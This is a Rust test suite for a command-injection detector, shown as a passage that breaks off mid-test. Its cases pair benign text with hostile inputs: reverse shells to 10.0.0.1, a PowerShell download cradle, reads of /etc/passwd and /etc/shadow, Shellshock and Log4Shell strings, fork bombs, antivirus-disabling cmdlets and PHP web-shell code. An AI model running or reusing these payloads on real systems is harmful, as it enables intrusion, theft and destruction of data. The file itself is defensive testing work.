use super::arguments::WRAPPERS;
use super::classify::{
    classify, classify_name, executable_name, executable_name_bytes, in_etc, is_glob, versioned,
    versioned_bytes, CommandWord, GLOB_BYTE, PLAIN_NAME_BYTE,
};
use super::code::{jndi_lookup, php_code, server_side_include, SUPERGLOBALS};
use super::judge::{judge_start, named_by_a_rule};
use super::scan::{
    dead_start, last_sep, letter_words_at_least, no_command_word, scan_starts, Scan, Start,
    StartFinder, Starts, START_BYTE,
};
use super::shell::{dev_mentions, dev_tcp};
use super::vocabulary::Tier;
use super::word::{read_command_word, Word, IDENT_BYTE, WORD_BYTE};
use super::*;

fn hit(v: &str) -> bool {
    detect(v, Context::Param).is_some()
}

#[test]
fn separators_and_substitutions() {
    for v in [
        "foo; ls -la",
        "a|true",
        "a;id|",
        "& whoami",
        "&& pwd",
        "|| cat /etc/passwd",
        "x\ncat /etc/passwd",
        "$(whoami)",
        "`id`",
        "<(curl http://x)",
        "{cat,/etc/passwd}",
        ";cat${IFS}/etc/passwd",
        ";cat$IFS$9/etc/passwd",
        "a;c$@at /et$@c/pas$@swd",
        "; /???/c?t /e??/p??s??",
        ";$CMD",
        "${SHELL} -c \"echo hi\"",
        "& type %SYSTEMROOT%\\win.ini",
        "| dir c:\\",
        "; w^h^o^a^m^i",
        "%26%26+|+dir+c:\\",
        "127.0.0.1%0aid%0a",
        "; Invoke-Expression $x",
        "; iex(New-Object Net.WebClient).DownloadString('http://x')",
        "() { :;}; /bin/bash -c id",
        "system('id');",
        "<?php passthru($_GET['c']); ?>",
        "nc -lvvp 4445 -e /bin/sh &",
        "for /f \"tokens=*\" %G in ('dir /b') do echo %G",
        "IF %ERRORLEVEL% NEQ 0 echo test",
        "whoami && id",
        "\\ls -la",
        "una$$me -a",
        "set -o history",
        "/usr/bin/id",
    ] {
        assert!(hit(v), "{v}");
    }
}

#[test]
fn benign_prose_and_data() {
    for v in [
        "Tom & Jerry",
        "Q&A",
        "AT&T",
        "fish; chips",
        "rock|paper",
        "I came; I saw; I left",
        "https://example.com/?a=1&b=2&id=3",
        "**bold** and _italic_ [link](https://x.org)",
        "x = (a + b) * c; y = x | 3",
        "p && q || r",
        "cat",
        "time flies like an arrow",
        "Tags: java | python | perl",
        "Find more info at our site",
        "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
        "curl/7.68.0",
        "session=abc123; path=/; HttpOnly",
        "Operating system(s) supported",
        "Salt & pepper; sleep well",
        "$(document).ready",
        "Price: $10 & up",
        "copy & paste",
        "S&W",
        "Date: 12/05/2024",
        "echo chamber",
    ] {
        assert!(!hit(v), "{v}");
    }
}

#[test]
fn reasons_for_hard_negatives() {
    for v in [
        "/SEARCH/HANDMADE?SEARCH_SUBMIT=&Q=\"NOT+AMUSED\"&ORDER=MOST_RELEVANT&SHIP_TO=ZZ&VIEW_TYPE=GALLERY&PAGE=4",
        "arg=;%22The%20quick%20brown%20fox%20jumped%20over%20the%20lazy%20dog%22",
        "SET 8 -MINI AS",
        "wget",
        "F*)v9Q(d1t_Fe",
        "/?/ludność.tiff",
        "Opera/9.10.(X11; Linux x86_64; aa-ET) Presto/2.9.170 Version/11.00",
        "Find your solution here -> link",
        ";$a $b $c",
    ] {
        assert_eq!(detect(v, Context::Param), None, "{v}");
    }
}

#[test]
fn character_references_are_text() {
    assert!(!hit("<span class=\"s1\">&#39;/etc/passwd&#39;</span>"));
    assert!(!hit("&quot;execute&quot;: 1 =&gt; true"));
    assert!(
        hit("&#59;id&#59;"),
        "decoded view still sees the separators"
    );
}

#[test]
fn escaped_newlines_leading_quotes_and_php() {
    for v in [
        ";id\\n",
        "a;/usr/bin/id\\n",
        "' whoami",
        "\" cat /etc/passwd",
        "<uname -a",
        "{${sleep(3)}}",
        "${@print(md5(x))}",
        ";{$_GET[\"cmd\"]}",
    ] {
        assert!(hit(v), "{v}");
    }
    for v in [
        "\"Time flies\" he said",
        "<source src=\"a.mp4\">",
        "<time datetime=\"2024-01-01\">",
        "Hello ${name}",
        "'The best' cat in town",
    ] {
        assert!(!hit(v), "{v}");
    }
}

#[test]
fn header_contexts() {
    let ua = "() { :; }; /bin/bash -c 'curl http://127.0.0.1/x'";
    assert!(detect(ua, Context::UserAgent).is_some());
    for (v, ctx) in [
        (
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
            Context::UserAgent,
        ),
        ("curl/8.5.0", Context::UserAgent),
        ("sid=abc; theme=dark; lang=en", Context::Cookie),
        (
            "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8",
            Context::Header,
        ),
        ("gzip, deflate, br", Context::Header),
        ("https://example.com/a?b=1&c=2", Context::Referer),
    ] {
        assert!(detect(v, ctx).is_none(), "{v}");
    }
}

#[test]
fn obfuscated_words_and_lookups() {
    for v in [
        "'c'url localhost",
        "ti''me who",
        "c$!at /etc/passwd",
        "${jndi:ldap://127.0.0.1/a}",
        "x ${:1337:-x$}{jndi:ldap://127.0.0.1/a}",
        "a=nc&&$a -nlvp 555",
        ";lastlog -u root",
    ] {
        assert!(hit(v), "{v}");
    }
    for v in [
        "O'keefe's",
        "I'd love to",
        "\"I'd go out\"",
        "don't cat-call",
        "it's time",
        "That's two \"O\"s in goose",
    ] {
        assert!(!hit(v), "{v}");
    }
}

#[test]
fn more_spellings() {
    for v in [
        "| whoami",
        "|| whoami",
        "& ipconfig /all",
        "& net user",
        "D:\\Shares\\HR\\offer.docx & net group \"Domain Admins\" /domain",
        "x & call whoami",
        "x;sajb{whoami}|rcjb -wait",
        "x;Start-Job{whoami}|Receive-Job -Wait",
        "x;v=iXd;${v//X/}",
        "x;v=idd;${v%d}",
        "x;y=id;z=y;${!z}",
        "x;q=whoami;${q@E}",
        "x;${x/#/id}",
        "a;12>x id",
        "a;2>x id",
        "x;dotnet /tmp/uploads/x.dll",
        "x;mongosh --eval 'db.adminCommand({listDatabases:1})'",
        "x & net view /all",
        "&& type C:\\Windows\\win.ini",
        "; powershell -enc SQBFAFgA",
        "| powershell.exe -nop -c iex(whatever)",
        "$(sleep 5)",
        "`sleep 5`",
        "; sleep 5",
        "x\nsleep 5",
        "x%0Asleep%205",
        "a${IFS}&&${IFS}id",
        ";ping${IFS}-c${IFS}1${IFS}127.0.0.1",
        "|nslookup x.example.net",
        "; curl http://127.0.0.1/`whoami`",
        "& ping -n 5 127.0.0.1",
        "; Start-Sleep -s 5",
        "; Get-Process",
        "& whoami /priv",
        "%26 whoami",
        "1;sleep${IFS}9;#",
        "x' ; cat /etc/shadow #",
    ] {
        assert!(hit(v), "{v}");
    }
}

#[test]
fn versioned_tools_pipelines_aliases_and_unset_variables() {
    for v in [
        ";gcc10.1<<<void main(){}",
        "echo | gcc7.4",
        "printf dwssap/cte/ tac | rev | sh",
        "echo hi | python3",
        "alias a=b",
        "alias +m x='curl'",
        "alias ..='cd ..'\n",
        "alias ll=\"ls -la\"; ll",
        ";$a cat test.txt",
        "|$u wget test",
        "Invoke-Expression -Command file.ps1",
        ";iwmi -class Win32_process",
        "; gwmi win32_process",
        ";/usr/bin/python3 -c 'import os'",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

#[test]
fn hard_negatives_for_versions_pipes_and_aliases() {
    for v in [
        "Tom & Jerry",
        "fish; chips",
        "AT&T",
        "rock | paper",
        "ps4 | xbox",
        "I bought a ps4; it was cheap",
        "python3 is nice",
        "Python 3.10 release notes",
        "his alias was Bob",
        "known alias: the fox",
        "a=1&b=2&c=3",
        "price $a or $b; cat food",
        "https://example.com/?a=1&b=2|3",
        "Jean-Luc said hi; Well-Known facts -Today",
        "| Name | Value |\n|------|-------|\n| a | b |",
        "cat | dog",
        "time | money",
        "alias node=\"env A=1 node\" copy",
        "interpreter is any of\n/usr/bin/python3.3, /usr/bin/python3.4, and\n/usr/bin/python3.5.\nThis also applies",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn fork_bombs_sqlite_shell_escapes_and_redirected_words() {
    for v in [
        "myfunc(){ myfunc|myfunc& };myfunc",
        "bomb() { bomb | bomb & }; bomb",
        ";\\n.shell nc 10.10.10.1 6666 -e sh\\n",
        "\";\\n. shell nc 10.10.10.1 6666 -e sh\\n",
        ";\\n.system nc 10.10.10.1 6666 -e sh\\n",
        "1;.sh whoami",
        "<id;",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "render(){ return this.render() }",
        "class A { run(){ run(); } }",
        "see ASP.NET; .NET Core is newer",
        "file.txt;.bashrc",
        "<b>bold</b>; <i>x</i>",
        "<p; the shell is fun",
        "a<b; c>d",
        ". shell games are fun",
        "He said: .system failure | reboot later",
        &".shell ".repeat(50_000),
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn brace_words_submitted_lines_and_hyphenated_tools() {
    for v in [
        "c{a,oun}t /etc/passwd",
        "{l,-lh}s",
        "visudo\n",
        "ansible-playbook site.yml",
        "ansible-vault decrypt secret\n",
        "aa-disable php-fpm",
        "if/i a==b foo",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "file{1,2}.txt",
        "img{a,b}",
        "{\"a\":1,\"b\":2}",
        "x{-a,b}y",
        "a{b,c}d and {e,f}",
        "awk is a language\n",
        "visudo",
        "apt-get is the Debian tool",
        "apt-get is the best tool",
        "docker-compose makes local stacks easy to run for everyone",
        "kubectl: Kubernetes CLI",
        "AA-rated bonds",
        "If/Then logic",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn binary_directories_and_single_command_lines() {
    for v in [
        "bin/cscli",
        "|usr/bin/id\\n",
        "cscli alerts list\n",
        "pipx install something\n",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "cscli alerts list",
        "whoami is a command\n",
        "binary/cat photos",
        "see bin/README for details",
        "cabin/cat",
        "htop shows processes\nand threads\n",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn field_separator_starts_and_leading_redirections() {
    for v in [
        "${IFS}id",
        "ls${LS_COLORS:10:1}${IFS}id",
        "x$IFS$9whoami",
        ">/tmp/x",
        ">>/var/www/html/s.php",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "> quoted reply text",
        "> /usr is where binaries live",
        ">/ not a path",
        ">/test.environment",
        "a > b",
        "=> /docs",
        "price in $USD",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn markdown_code_spans_are_prose() {
    for v in [
        "The `id` field",
        "Run `make` in the dir",
        "Use `python` to run it.",
        // The span alone is the command shown; the sentence after it is no argument.
        "Why does `ls` show nothing?",
        "On some systems, you may need to use `py` or `python` instead of `python3`.",
        "(and 5 times slower than `set`);",
        "Equivalent of builtin `zip`.\"\"\"",
        // A span between two words of a sentence shows a command, with its options too.
        "Run `ls -la /etc` in the dir",
        "The `ls -la` output below shows permissions",
        "try `git pull --rebase` first",
        // A plain file of the working tree read into a text filter (rt16 benign).
        "When I run `cat file.txt | wc -l` it says 0",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
    for v in [
        "`id`",
        "a`id`",
        "x `id` ",
        "; `python -c 'import os'`",
        "name=`whoami` here",
        "$(`dir`)",
        // Punctuation glued to more text is part of a file name an upload handler passes on.
        "`id`.png",
        "`uname -a`.jpg",
        "a `cat /etc/passwd` b",
        "name `cat /etc/passwd` here; `id`",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

#[test]
fn full_width_separators_after_normalisation() {
    for v in [
        "；id",
        "｜id",
        "＆whoami",
        "a；cat /etc/passwd",
        "x｜ls -la",
        "＄(id)",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "東京；大阪",
        "価格｜送料無料",
        "（株）ＡＢＣ商事",
        "ＩＤ：１２３４",
        "Ｑ＆Ａ",
        "注意；ＩＤ番号を入力",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn bash_function_keyword() {
    for v in [
        ";function f { id; }; f",
        "function f { cat /etc/passwd; }; f",
        "x; function run { curl http://x|sh; }",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "function f() { return 1; }",
        ";function f() { id(); }",
        "a function of time",
        "function { id }",
        "The function calc { x } returns",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn powershell_environment_drive_in_any_case() {
    for v in [
        "; ${ENV:COMSPEC} /c dir",
        "& ${Env:ComSpec} /c whoami",
        "|$ENV:ComSpec /c ver",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in ["Set ${ENV_NAME} in the file", "${env.HOME}/bin"] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn separators_after_a_data_token_are_tight() {
    for v in [
        "8.8.8.8; id",
        "127.0.0.1 | id",
        "abc.txt ; cat index.php",
        "user@example.com | env",
        "1 & ver",
        "10\nps aux",
        "x'\nid",
        "x\" ; env",
        "google.com\\necho vulnerable",
        "/tmp/x ; uptime",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "Vol. 2 & more of the same",
        "e.g. | more",
        "U.S. & date",
        "1; exec will create the case 7",
        "process.report.writeReport(); copy",
        "':!kRSA'; copy",
        "fish; chips",
        "Room 5 | set of 3",
        "Node.js & the web",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn wrapped_prose_lines_start_no_command() {
    for v in [
        "Some modules are also useful as scripts. These can be invoked using\npython -m module [arg] ...",
        "ASCII-only strings are now accepted by the decoding functions of the\nbase64 modern interface.",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
    for v in [
        "Hello there.\nwhoami",
        "test\ncat /etc/passwd",
        "hi\n\nuname -a",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

#[test]
fn executables_shell_name_and_glued_variables() {
    for v in [
        "x|notepad.exe",
        ";calc",
        "a&&driverquery",
        "; $0 -c id",
        "$0 -c id",
        ";${0} -c id",
        "a=c;b=at;$a$b /etc/passwd",
        "|reboot|",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "setup.exe",
        "Download setup.exe now",
        "tutorial-env\\Scripts\\activate.bat",
        "a;google.com",
        "costs $0 today",
        "$a$b",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn shell_only_expansions() {
    for v in [
        "${PATH:0:1}etc${PATH:0:1}passwd",
        "cat ${HOME:0:1}etc${HOME:0:1}shadow",
        "${x#{}}",
        "${PATH#{}/}",
        "${#HOME}",
        "${v%%/*}",
        "$((7*7))",
        "$[2+2]",
        "$[]",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "Hello ${name}",
        "${PORT:8080}",
        "${DB_HOST:-localhost}",
        "`Total: ${a/b} and ${this.#x}`",
        "costs $[0] in jQuery",
        "$(( a ))",
        "$100 + $[tax]",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn bare_recon_commands_and_command_syntax() {
    for v in [
        "whoami",
        "uname",
        "ipconfig\n",
        "systeminfo",
        "net user",
        "net localgroup administrators",
        "x | ps aux",
        "foo & sc query",
        "a | reg query HKLM\\Software",
        "test\nroute print",
        "dd if=/dev/zero of=/tmp/x",
        "foo ; kill -9 1",
        "su root",
        "dig evil.example.com",
        "foo; ssh user@10.0.0.1",
        "powershell -EncodedCommand SQBFAFgA",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "Whoami",
        "WHOAMI",
        "whoami is a command",
        "uname field",
        "net user growth was strong",
        "gross & net group sales rose",
        "questions & call mom later",
        "Tuesday mood: ☕☕☕ && more ☕",
        "done; sort 🙂",
        "Hello ${name}; your total is ${total}",
        "${user//x/y}",
        "price;${amount}",
        "Mon & call center hours",
        "Sales & net view of the quarter",
        "Net users grew",
        "the ps aux listing",
        "su casa",
        "dig the garden",
        "ping me later",
        "host a party",
        "reg add more",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn reverse_shells_assigned_variables_and_powershell_drives() {
    for v in [
        "0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196",
        "x; cat < /dev/tcp/10.0.0.1/80",
        "x=whoami;$x",
        "127.0.0.1$(x=whoami;$x)",
        "cat</etc/passwd",
        "gci env:",
        "a; ls env:",
        "Get-ChildItem Env:",
        "Get-Process",
        "'; $env:COMPUTERNAME",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "the /dev/tcp/ files are a bash feature",
        "price $x; y=$x",
        "a</em> b",
        "Get-Rich Quick",
        "env: production",
        "$env:",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn code_conditions_and_sentences_are_not_commands() {
    for v in [
        "if (result == NULL)\n    return NULL;",
        "if (state === NULL) {\n    return NULL;\n}",
        "if __name__ == '__main__':\n    main()",
        "if a == b\n    print(a)",
        "If you have defined your own classes, you have to implement it",
        "Set the flag --force-x to force Node.js",
        "Strings passed in as an argument to --eval or --print",
        "Test suite shard to execute in a format of <index>/<total>, where",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
    for v in [
        "IF EXIST MyFile.txt (ECHO found)",
        "if (1) equ (1) echo hey",
        "IF (2 GEQ 15) echo \"bigger\"",
        "IF NOT DEFINED var (SET var=default value)",
        "if not {%1} == {}",
        "ansible all -m ping",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

#[test]
fn crlf_is_one_line_break() {
    for v in [
        "8.8.8.8\r\nid",
        "1%0d%0ahostname",
        "\"%0d%0aver",
        "x'\r\nid",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "Dear Sir,\r\ndate of the meeting is fine",
        "Hello\r\nTime flies",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn english_word_commands_after_data_need_arguments() {
    for v in [
        "v2.0 & more",
        "Save 10% & more",
        "3 | date",
        "john@example.com; date",
        "README.md & more",
        "photo.jpg; copy",
        "1 & sort by date",
        "2024\ndate",
        "42\ntime",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
    for v in [
        "8.8.8.8; id",
        "1; cat index.php",
        "1 | which python",
        "google.com\necho vulnerable",
        "10 ; dir",
        "x' & ver",
        "127.0.0.1 | cat /etc/passwd",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

#[test]
fn any_program_in_a_system_binary_directory() {
    for v in ["/bin/ab", ";/usr/sbin/xyzzy", "x|/usr/local/bin/tool -v"] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "/bin/README.md",
        "/usr/bin/",
        "/usr/binary/x",
        "see /usr/share/doc/x",
        "/bin/a/b",
        "/usr/sbin/sendmail - 0 errors, 4 warnings",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn sentences_headings_and_sentence_ends() {
    for v in [
        "Don't add the directory to\nsys.path.\nSet by the -s and -I options",
        "(see PEP 594 for details).\nbase64 is a modern alternative.",
        "Table of contents\n\nNet\n\nIPC support",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
    for v in ["x\nid\n", "x\nVER\n", "a\nbase64 -d /tmp/x", "x\nwhoami"] {
        assert!(hit(v), "missed {v:?}");
    }
}

#[test]
fn whole_command_lines() {
    for v in [
        "cat config.php",
        "cat .env",
        "type file.txt",
        "wget evil.com/x.sh",
        "Get-Process | Select-Object Name",
        "Get-Content .\\secrets.txt",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "LS",
        "Pwd",
        "Cat food.txt",
        "cat food is great",
        "type here",
        "more .env files",
        "wget is a tool",
        "format-list of items",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn ansi_c_quoting_and_uppercase_assignments() {
    for v in [
        "X=$'cat\\x20/etc/passwd'&&$X",
        "$'\\x69\\x64'",
        "a;$'\\151\\144'",
        "X=whoami;$X",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "it costs $'5'",
        "$'hello'",
        "X=1; price $X",
        "regex \\x20 and $'",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn title_case_unix_words_are_prose() {
    for v in ["Cat /dog / fish", "Head /office", "Tail -end of the story"] {
        assert!(!hit(v), "flagged {v:?}");
    }
    for v in [
        "cat /etc/passwd",
        "Type C:\\boot.ini",
        "Dir C:\\",
        ";Cat /etc/passwd",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

#[test]
fn tools_ended_by_a_separator_or_a_submitted_line() {
    for v in [
        "ifconfig;. rm -rf /",
        "whoami;0'0'\"",
        "shutdown\n",
        "ipconfig|x",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "Java\n",
        "python\nis great",
        "shutdown",
        "ifconfig is old; use ip",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn code_statements_calls_and_exponents_are_not_commands() {
    for v in [
        "$(id);id",
        "x');cat /etc/passwd",
        "f();whoami",
        "1;printf 'x' > /tmp/y",
        "; w^h^o^a^m^i",
        "&n^et user",
        "iex(New-Object Net.WebClient).DownloadString('http://x')",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "import os from 'node:os';const os = require('node:os');copy",
        "report.writeReport();copy",
        "clearTimeout(t);set",
        "int main()\n{\n  int x;\n  printf (\"x = %d\\n\", x);\n}",
        "data = read()\nprint('Content-type: text/plain')",
        "e^x = 1 + x + x^2/2!",
        "c^d",
        "re.compile(\"[A-Za-z_]\"\n    \"[A-Za-z0-9_]*\")",
        "performance.mark(`test${n}`);",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn calls_that_run_a_command_string() {
    for v in [
        "system('id')",
        "__import__('os').system('id')",
        "require('child_process').exec('id')",
        "Runtime.getRuntime().exec(\"ping 1.2.3.4\")",
        "${T(java.lang.Runtime).getRuntime().exec('cat /etc/passwd')}",
        "{{config.__class__.__init__.__globals__['os'].popen('whoami').read()}}",
        "eval(\"__import__('os').system('ls')\")",
        "[System.Diagnostics.Process]::Start('calc')",
        "passthru($_GET['c'])",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "sts = os.system(\"mycmd\" + \" myarg\")",
        "/ab+c/.exec('abbc')",
        "vm.runInThisContext('localVar = \"vm\";')",
        "eval('x = 1 + 2')",
        "Process.Start is a .NET method",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn globbed_binaries_braced_unset_variables_and_cmdlets() {
    for v in [
        "/usr/bin/i?",
        ";/bin/ca* /etc/passwd",
        "c${u}at /etc/passwd",
        ";c${x}url http://x.example",
        "Set-MpPreference -DisableRealtimeMonitoring $true",
        ";Add-MpPreference -ExclusionPath C:\\",
        "socat tcp-connect:10.0.0.1:4444 exec:/bin/sh",
        "%0ahostname",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "/usr/local/bin",
        "/bin/*",
        "Hello ${user}",
        "Start-Up Nation",
        "Set-Top Box",
        "--allow-fs-read=/path/to/index.js",
        "\nhostname is the name of the machine",
        "hostname",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn subjects_of_sentences_brace_word_sets_and_one_token_values() {
    for v in [
        "abc; id",
        "x & env",
        "x| id",
        ";{sleep,5}",
        "{cat,/etc/passwd}",
        "{ls,-la}",
        "rm -rf /tmp/x",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "rm -rf is dangerous, never run it",
        "rm -rf / would delete everything",
        "ls -l is short for long",
        "{cat,dog}",
        "{find,seek}",
        "Tom & id card",
        "yes; who cares",
        "read; write; repeat",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn quoted_pipelines_and_title_case_list_items() {
    for v in [
        "echo \"foo;whxam\"i | tr x o | sh",
        "127.0.0.1 | python -c 'print(1)'",
        "8.8.8.8 | Ping -n 3 127.0.0.1",
        "x.txt | Whoami",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in ["Node.js | Python | Go", "v1.2 | Curl", "notes.txt | Cat"] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn xml_values_and_layered_encodings() {
    for v in [
        "<?xml version=\"1.0\"?><root><a probe=\"cat /etc/passwd\"></a></root>",
        "<?xml version=\"1.0\"?><root><a probe=\"Invoke-WebRequest http://example.com/f.ps1\"></a></root>",
        "<?xml version=\"1.0\"?><cmd>;id</cmd>",
        "&lt;!--#exec%20cmd=&quot;/bin/cat%20/etc/passwd&quot;--&gt;",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "<?xml version=\"1.0\"?><note><to>Tove</to><body>Don't forget me this weekend; cat food too</body></note>",
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><a href=\"x?a=1&amp;b=2\">Tom &amp; Jerry</a>",
        "50%25 off &amp; free",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn only_variables_that_hold_a_program_run_one() {
    for v in [
        "x;$SHELL -c id",
        ";${SHELL} -c 'id'",
        "CMD=$'whoami';$CMD",
        "^CMD=$'uname -a';$CMD",
        "x|$0 -c id",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    // Random passwords and tokens: an unset variable expands to nothing.
    for v in [
        "&$RRD1fg91",
        "h13LL&$H_TL2q",
        "4b0&XwVU&$CR2Ni",
        "MaGa&$rU&3rw5LMdZCx)",
    ] {
        assert!(!hit(v), "{v}");
    }
}

#[test]
fn versioned_file_names_and_quoted_wrappers() {
    for v in [
        "python3.10 cmd",
        "php7.4 -r 'system(1);'",
        "perl5.30 -e 'exec q{id}'",
        "gcc-12 x.c -o x",
        ";python3.10 -c 'import os'",
        "\"time\" who",
        "'nohup' id",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "Python 3.10 release notes",
        "python3.10 is nice",
        "gcc-12 is the default compiler",
        "php7.4",
        "upgrade to php7.4 today",
        "time who",
        "\"nice\" people",
        "\"time\" who knows",
        "'id'",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn markup_man_pages_and_mentions_are_not_command_lines() {
    for v in [
        "<dd class=\"field-odd\"><p>A. M. Kuchling</p> </dd>",
        "<pre class='x' hidden>text</pre>",
        "BOFH excuse #280:\n\nTraceroute says that there is a routing problem in the backbone.",
        "/IP 主机名解析。为启用这个功能，\"/etc/nsswitch.conf\" 文件应当有这",
        "ls(1) 的日期格式受语言环境影响. \"LANG=C ls -l\" 和 \"LANG=",
        "\"systemctl status $unit|$PID|$device\" 的输出使用有颜色的点",
        "see crontab(5) for the format",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
    for v in [
        "<id;",
        "<uname -a",
        "\n\ntraceroute 10.0.0.1",
        "/usr/bin/id",
        "/bin/cat /etc/passwd",
        "ls -l /etc",
        "\"; ls -l\" 和",
        "\"x\" 和; cat /etc/passwd",
        "你好你好; cat /etc/passwd",
        ";ls(1)|id",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

#[test]
fn a_parenthesis_after_a_tag_is_text() {
    for v in [
        "<span class=\"hljs-built_in\">require</span>(<span class=\"s\">'node:buffer'</span>);",
        "<b>(note)</b> see <i>(this)</i>",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
    for v in [
        "cat >(nc 10.0.0.1 4444) /etc/passwd",
        "x;tee >(sh)",
        "diff <(id) x",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

#[test]
fn lone_tools_and_probes_after_one_token() {
    for v in [
        "abc; hostname",
        "x & hostname",
        "x | hostname",
        "x\nhostname",
        "x; echo hacked",
        "abc & echo hacked",
        "u\\n\\a\\m\\e -a",
        ";u\\n\\a\\m\\e -a",
        "$env:COMPUTERNAME",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "java & python",
        "Node | Go",
        "fish; Python",
        "Rock & Roll",
        "I like cats; hostname is set later",
        "x; echo is a command that prints",
        "Echo; Echo hello",
        "Rock; echo chamber",
        "Coffee; python",
        "salt & pepper",
        "a\\nb",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn windows_if_with_quoted_operands() {
    for v in [
        "if \"A A\" == \"A A\" echo same",
        "x && if \"%a%\"==\"1\" whoami",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "if \"it rains\" we stay in",
        "if (\"a b\" == x) {",
        "If \"A A\" is equal to \"A A\", say so",
        // BASIC's, Lua's or a sentence's `if … then`: cmd has no command `then`.
        "if x == 72 then a = 62",
        "IF b == 97 THEN k = 83",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
    // cmd's own variables keep the line cmd's.
    assert!(hit("if %x% == 72 then whoami"), "missed");
}

#[test]
fn command_glued_to_an_unset_variable() {
    for v in [
        "'cmd=a; sh$XX -c whoami",
        ";bash${u} -i",
        "|nc$x 10.0.0.1 4444",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "US$50 or EUR 40",
        "price: ab$cd",
        "cat$HOME is a word",
        "I paid 5$ for it; ok",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn capitalised_globs_match_no_program() {
    for v in ["x\n\"Ne? V tom případě\"", "\"a!\"\n\"Ne? V tom\""] {
        assert!(!hit(v), "flagged {v:?}");
    }
    for v in [
        ";/???/c?t /etc/passwd",
        "x\n/???/bin/n? -e /bin/sh 1.2.3.4 1",
        ";ne? user",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

#[test]
fn cmd_variables_and_substring_expansions() {
    for v in [
        "x & %COMSPEC% /c whoami",
        "127.0.0.1 | %ComSpec%",
        "%PROGRAMFILES:~10,1%",
